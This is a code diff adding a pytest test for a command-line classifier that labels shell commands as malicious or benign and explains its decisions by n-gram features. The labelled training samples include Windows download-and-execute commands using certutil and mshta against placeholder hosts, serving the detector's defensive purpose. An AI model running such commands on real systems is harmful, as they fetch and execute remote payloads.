@@ -131,3 +131,16 @@ def test_not_json_and_oversized_headers_are_rejected(tmp_path):
     (d / "model.json").write_text(" " * (modelfile.MAX_JSON_BYTES + 1))
     with pytest.raises(ModelFileError, match="refusing"):
         modelfile.load(d)
+
+
+def test_explanations_add_up_to_the_margin_and_name_real_ngrams():
+    from smallworld.student.explain import explain
+
+    texts = ["certutil -urlcache -f http://x/a.exe", "git status", "mshta http://y/p.hta", "ls -la"]
+    m = LinearStudent(("malicious", "benign"), {"dim_bits": 14}).fit(texts, np.array([[1, 0], [0, 1], [1, 0], [0, 1.0]]))
+    t = "certutil -urlcache -f http://z/b.exe"
+    e = explain(m, t, pos=0, top=5)
+    z = m.decision_function([t])[0]
+    assert e["margin"] == pytest.approx(z[0] - z[1], abs=1e-5)
+    assert all(k.startswith(("'", "token:")) for k, _ in e["toward"] + e["against"])
+    assert any(k == "token:certutil" for k, _ in explain(m, t, pos=0, top=10_000)["top_abs"])
